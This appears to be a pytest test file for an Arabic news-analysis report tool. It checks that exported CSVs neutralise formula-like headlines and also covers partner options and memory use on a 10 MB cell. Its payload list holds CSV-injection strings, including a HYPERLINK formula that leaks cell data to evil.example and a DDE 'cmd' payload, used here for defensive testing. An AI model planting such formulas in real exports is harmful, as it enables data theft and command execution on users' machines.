"""One-way data flow (issue 11): the analysis writes the tables and the CSVs, notebooks only read them.

A report run over scraped text whose headlines look like spreadsheet formulas must leave every CSV of the
report folder neutralised: no notebook may rewrite a CSV without the formula-safe writer.
"""
from __future__ import annotations

import csv

import pytest

from marsad.runner.report import run_report

pytestmark = pytest.mark.slow

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"انقر هنا")', "+روسيا وكوريا الشمالية توقعان اتفاقية",
            "@SUM(1+1) فيتنام وروسيا", "-cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    corpus = tmp_path_factory.mktemp("formula_corpus")
    with open(corpus / "news.csv", "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["title", "text", "date", "source"])
        for i, title in enumerate(PAYLOADS):
            writer.writerow([title, f"{title}. وقع الرئيس الروسي فلاديمير بوتين والزعيم الكوري الشمالي كيم جونغ أون "
                                    f"معاهدة شراكة في بيونغ يانغ يوم الأربعاء.", f"2024-06-{19 + i}", "=cmd"])
    return run_report(corpus, "formulas", reports_dir=tmp_path_factory.mktemp("reports"), jobs=2)


def test_the_report_ran(report):
    assert report.ok, [(nb.notebook, nb.error) for nb in report.notebooks if not nb.ok]


def test_every_csv_of_the_report_folder_stays_neutralised(report):
    csvs = sorted(report.out_dir.glob("*.csv"))
    assert {"documents.csv", "headlines.csv", "mentions.csv", "events.csv"} <= {p.name for p in csvs}
    seen = 0
    for path in csvs:
        with open(path, encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    for payload in PAYLOADS + ["=cmd"]:
                        if payload in cell:
                            seen += 1
                            assert not cell.startswith(("=", "+", "@", "-", "\t", "\r")), (path.name, cell)
    assert seen >= len(PAYLOADS)  # the payloads did reach the CSVs, as quoted text


@pytest.fixture(scope="module")
def other_partners(tmp_path_factory, seed_path):
    # The analysis is told to look for Russia with North Korea and Vietnam only (an explicit stage option wins
    # over -p partners); the report asks for China too.
    return run_report(seed_path, "partners", reports_dir=tmp_path_factory.mktemp("reports"), notebooks=["03"],
                      parameters={"partners": ["KP", "VN", "الصين"]}, options={"events": {"partners": ["KP", "VN"]}},
                      jobs=1)


def test_report_partners_are_the_pairs_the_analysis_extracts(tmp_path, seed_path):
    """Without --option events ..., the timeline's -p partners reach the events stage: no 'not in this run'."""
    import json

    done = run_report(seed_path, "cn", reports_dir=tmp_path, notebooks=["03"],
                      parameters={"partners": ["KP", "الصين"]}, jobs=1)
    assert done.ok
    options = json.loads((done.out_dir / "tables" / "run.json").read_text(encoding="utf-8"))["options"]["events"]
    assert options["focus"] == "RU" and options["partners"] == ["KP", "CN"]
    html = (done.out_dir / "03-russia-relations-timeline.html").read_text(encoding="utf-8")
    assert "Russia with North Korea, China" in html and "Not in this run" not in html


def test_partners_outside_the_analysis_are_named_in_the_report_and_the_index(other_partners):
    assert other_partners.ok
    html = (other_partners.out_dir / "03-russia-relations-timeline.html").read_text(encoding="utf-8")
    assert "Not in this run" in html and "events of other pairs are not in them" in html
    assert "--option events focus RU --option events partners KP,VN,CN." in html  # a command one can paste
    assert "Russia with North Korea, Vietnam, China" in html  # the title follows the parameters, in names
    index = other_partners.index.read_text(encoding="utf-8")
    assert "events of other pairs are not in them" in index


def test_a_mixed_corpus_keeps_its_titles_in_a_table_of_their_own(tmp_path, seed_path):
    """Ticker headlines and titles both come from the analysis: notebook 01 only reads them."""
    import shutil

    from marsad.engine.run import analyze

    corpus = tmp_path / "mixed"
    corpus.mkdir()
    shutil.copy(seed_path, corpus / seed_path.name)
    (corpus / "titles.csv").write_text("title,text\nفوز المنتخب المغربي في المباراة النهائية,نص\n"
                                       "ارتفاع أسعار النفط في الأسواق العالمية,نص\n", encoding="utf-8")
    run = analyze(corpus, tmp_path / "tables", progress=False)
    assert set(run.headlines["section"]) == {"ticker"} and len(run.headlines) == 58
    titles = run.titles
    assert len(titles) == 3 and set(titles["section"]) == {"title"}  # the seed's own title + the CSV's two
    assert titles["topic"].notna().all()


def test_a_ten_megabyte_single_cell_csv_is_analysed_with_bounded_memory(tmp_path):
    """Issue 18 item 8: one 10 MB cell (no line breaks) runs through every stage, in windows, in bounded memory."""
    import subprocess
    import sys

    import pandas as pd

    sentence = "أعلنت الحكومة اليوم عن خطة جديدة لدعم المزارعين في المناطق الريفية وتحسين شبكات الري "
    cell = sentence * (10 * 2**20 // len(sentence.encode()))
    pd.DataFrame([{"title": "عنوان", "text": cell}]).to_csv(tmp_path / "big.csv", index=False)
    # a fresh parent process, so its children's peak RSS is this analysis' alone
    wrapper = ("import resource, subprocess, sys; "
               "r = subprocess.run([sys.executable, '-m', 'marsad', 'analyze', '--corpus', sys.argv[1], '--out', "
               "sys.argv[2], '--no-progress']); "
               "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); sys.exit(r.returncode)")
    done = subprocess.run([sys.executable, "-c", wrapper, str(tmp_path / "big.csv"), str(tmp_path / "tables")],
                          capture_output=True, text=True, timeout=900)
    assert done.returncode == 0, done.stderr[-2000:]
    peak_mb = int(done.stdout.split()[-1]) / 1024
    # measured 880 MB on 2026-12-02; the quadratic overlap checks this replaced reached 5 GB and never finished
    assert peak_mb < 1536, peak_mb
    from marsad.engine.partitions import read_table

    segs = read_table(tmp_path / "tables", "segments", columns=["text"])
    assert len(segs) > 1000 and segs["text"].str.len().max() <= 5000
